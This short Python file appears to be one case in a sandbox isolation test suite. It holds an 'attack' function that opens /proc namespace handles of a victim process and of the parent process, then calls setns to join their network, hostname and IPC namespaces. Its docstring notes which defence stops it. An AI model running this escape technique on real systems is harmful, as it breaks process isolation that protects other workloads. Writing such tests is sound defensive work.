"""Enters the network, the host name and the IPC of other processes.

stopped by: pid namespace
unfenced: succeeds
"""

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    entered = []
    for pid in (VICTIM, os.getppid() or 1):
        for kind in ("net", "uts", "ipc"):
            try:
                space = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(space, 0) == 0:
                entered.append((pid, kind))
            os.close(space)
    return entered
